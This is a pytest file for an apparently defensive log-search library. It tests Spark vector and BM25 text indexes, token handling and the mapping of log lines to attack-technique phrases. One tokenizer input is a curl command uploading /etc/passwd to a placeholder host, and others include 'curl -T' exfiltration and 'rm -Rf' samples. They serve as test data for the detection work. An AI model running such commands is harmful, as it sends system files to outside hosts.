"""Stored indexes against comparing everything."""

import re

import numpy as np
import pytest
from pyspark.sql import functions as F

from emberlog.operators import textindex, vectorindex
from emberlog.operators.retrieval import bm25, nearest


def vectors(spark, n=1200, seed=3, dim=12):
    """Clusters of vectors; a third of the rows holds one vector."""
    r = np.random.default_rng(seed)
    centre = r.normal(size=(25, dim))
    v = centre[r.integers(0, 25, n)] + r.normal(scale=0.35, size=(n, dim))
    v[: n // 3] = v[0]
    return spark.createDataFrame([(i, [float(x) for x in row]) for i, row in enumerate(v)], "doc_id long, v array<float>")


def queries(df, by=20):
    return df.where(f"doc_id % {by} = 7").selectExpr("doc_id AS query_id", "v AS q")


def pairs(df):
    return sorted((r["query_id"], r["rank"], r["doc_id"]) for r in df.collect())


def test_exact_search_is_the_comparison_of_everything(spark, tmp_path, monkeypatch):
    monkeypatch.setattr(vectorindex, "BLOCK", 100)
    monkeypatch.setattr(vectorindex, "QUERY_BLOCK", 7)
    df = vectors(spark)
    index = vectorindex.build(df, str(tmp_path), {"model": "a"})
    assert pairs(vectorindex.search(index, queries(df), k=10, probes=2)) == pairs(nearest(df, queries(df), 10))


def test_nearest_lists_alone_recall_nine_tenths(spark, tmp_path):
    df = vectors(spark)
    index = vectorindex.build(df, str(tmp_path), {"model": "a"})
    exact = {(q, d) for q, _, d in pairs(nearest(df, queries(df), 10))}
    found = {(q, d) for q, _, d in pairs(vectorindex.search(index, queries(df), k=10, probes=8, exact=False))}
    assert len(found & exact) >= 0.9 * len(exact)


def test_search_compares_by_lists_and_not_row_by_row(spark, tmp_path, capsys):
    df = vectors(spark, 200)
    index = vectorindex.build(df, str(tmp_path), {"model": "a"})
    vectorindex.search(index, queries(df)).explain()
    plan = capsys.readouterr().out
    assert "NestedLoop" not in plan and "Cartesian" not in plan


def test_an_index_is_made_again_only_for_another_digest(spark, tmp_path):
    df, root = vectors(spark, 120), str(tmp_path)
    assert not vectorindex.build(df, root, {"model": "a"}).reused
    again = vectorindex.build(df.repartition(5), root, {"model": "a"})
    assert again.reused and again.rows.count() == 120
    assert not vectorindex.build(df, root, {"model": "b"}).reused
    changed = df.selectExpr("doc_id", "IF(doc_id = 100, transform(v, x -> -x), v) AS v")
    assert not vectorindex.build(changed, root, {"model": "a"}).reused
    # one that was cut off before its description is made again
    path = next(p for p in tmp_path.iterdir() if (p / "rows").exists())
    for f in (path / "info").iterdir():
        f.unlink()
    (path / "info").rmdir()
    assert sum(vectorindex.build(d, root, {"model": m}).reused for d, m in ((df, "a"), (df, "b"), (changed, "a"))) == 2


def test_odd_vectors(spark, tmp_path):
    nan, inf = float("nan"), float("inf")
    rows = [(1, [1.0, 0.0], 0), (2, [1e30, 0.0], 0), (3, [0.0, 0.0], 0), (4, None, 0), (5, [], 0), (6, [nan, 1.0], 0), (7, [inf, 1.0], 0), (8, [None, 1.0], 0), (None, [1.0, 1.0], 0), (9, [1e-30, 1e-30], 0), (10, [1.0, 0.0], 0)]
    df = spark.createDataFrame(rows, "doc_id long, v array<float>, list int")
    index = vectorindex.build(df, str(tmp_path), {})
    assert index.info["rows"] == 4 and index.info["without_direction"] == 7
    found = vectorindex.search(index, df.selectExpr("doc_id AS query_id", "v AS q", "list"), k=2)
    # of equal scores the smaller id comes first
    assert pairs(found) == [(1, 1, 2), (1, 2, 10), (2, 1, 1), (2, 2, 10), (9, 1, 1), (9, 2, 2), (10, 1, 1), (10, 2, 2)]
    none = vectorindex.build(df.where("doc_id < 0"), str(tmp_path), {})
    assert vectorindex.search(none, df.selectExpr("doc_id AS query_id", "v AS q")).count() == 0
    assert vectorindex.search(index, df.where("doc_id < 0").selectExpr("doc_id AS query_id", "v AS q")).count() == 0
    with pytest.raises(ValueError, match="dimensions"):
        vectorindex.build(spark.createDataFrame([(1, [1.0]), (2, [1.0, 2.0])], "doc_id long, v array<float>"), str(tmp_path), {})
    with pytest.raises(ValueError, match="dimensions"):
        vectorindex.search(index, spark.createDataFrame([(1, [1.0])], "query_id long, q array<float>"))


WORDS = [f"w{i}" for i in range(400)]


def texts(spark, n=600):
    r = np.random.default_rng(5)
    p = 1 / np.arange(1, 401)
    return [(i, " ".join(r.choice(WORDS, size=int(r.integers(5, 60)), p=p / p.sum()))) for i in range(n)]


def test_text_index_ranks_as_scoring_everything_and_opens_less(spark, tmp_path, monkeypatch):
    monkeypatch.setattr(textindex, "BLOCK", 16)
    monkeypatch.setattr(textindex, "FIRST", 3)
    rows = texts(spark)
    rows += [(1000 + i, rows[7][1]) for i in range(300)]  # a third holds one text
    docs = spark.createDataFrame(rows, "doc_id long, text string")
    asked = spark.createDataFrame([(i, t) for i, t in rows if i % 40 == 7 and i < 1000] + [(5000, "w0"), (5001, "w0 w399 w398"), (5002, "nothing"), (5003, "w1 w1 w0")], "query_id long, text string")
    index, measured = textindex.build(docs, str(tmp_path), {}), {}
    found = textindex.search(index, asked, k=5, measured=measured)
    assert pairs(found) == pairs(bm25(docs, asked, 5))
    assert 0 < measured["opened"] < 0.8 * measured["all"]
    blocks = index.blocks.selectExpr("term", "size(postings) AS n").groupBy("term").agg({"n": "max", "*": "count"}).collect()
    assert max(r["max(n)"] for r in blocks) <= 4 * 16 + 300  # all copies of a text stay in their own blocks by id
    assert textindex.build(docs, str(tmp_path), {}).reused and not textindex.build(docs.limit(10), str(tmp_path), {}).reused


def test_text_index_of_odd_rows(spark, tmp_path):
    docs = spark.createDataFrame([(1, None, 0), (2, "", 0), (3, "Ssh -T ssh", 0), (None, "ssh", 0), (4, "x " * 50_000 + "ssh", 0)], "doc_id long, text string, part int")
    asked = spark.createDataFrame([(1, "SSH"), (2, None), (3, ""), (None, "ssh"), (4, "-t"), (5, "-T")], "query_id long, text string")
    index = textindex.build(docs, str(tmp_path), {}, textindex.option_tokens)
    # options keep their case
    assert pairs(textindex.search(index, asked, 3)) == [(1, 1, 3), (1, 2, 4), (5, 1, 3)]
    none = textindex.build(docs.where("doc_id < 0"), str(tmp_path), {})
    assert textindex.search(none, asked, 3).count() == 0 and textindex.search(index, asked.where("query_id < 0"), 3).count() == 0


TOKEN = re.compile(r"--?[A-Za-z][\w-]*|\w+(?:[./:@-]\w+)*")


@pytest.mark.parametrize("text", ["curl -T /etc/passwd https://a.example:8080/x?y=1", "--upload-file=x a_b-c.d", "ÄÖ 무차별 대입 x@y.z", "-1 -- --- -a-b-", "a..b a./b", "", "́x ²³ Ⅳ", "ls -la\tRM -Rf"])
def test_option_tokens(spark, text):
    got = spark.createDataFrame([(text,)], "t string").select(textindex.option_tokens(F.col("t")).alias("w")).first()["w"]
    assert got == [t if t.startswith("-") else t.lower() for t in TOKEN.findall(text)]


def test_search_text(spark):
    rows = [("Bash ran /usr/bin/CRON", "exec", "system"), ("curl -T x http://h", None, "web"), ("curl -t x http://h", "", "web"), ("반복된 인증 실패, 압축", "e", "auth"), (None, None, None), ("xmlrpc.php XML-RPC", "a", "b")]
    df = spark.createDataFrame(rows, "d string, e string, l string")
    got = [r["q"].split("\n") for r in df.select(textindex.search_text(F.col("d"), F.col("e"), F.col("l")).alias("q")).collect()]
    assert got == [
        ["Bash ran /usr/bin/CRON", "exec", "system", "unix shell command interpreter", "scheduled task job cron"], ["curl -T x http://h", "", "web", "upload file outbound transfer exfiltration alternative protocol"], ["curl -t x http://h", "", "web"],
        ["반복된 인증 실패, 압축", "e", "auth", "brute force password guessing authentication", "archive collected data compression archive utility"], ["", "", ""], ["xmlrpc.php XML-RPC", "a", "b", "web authentication password guessing brute force"],
    ]
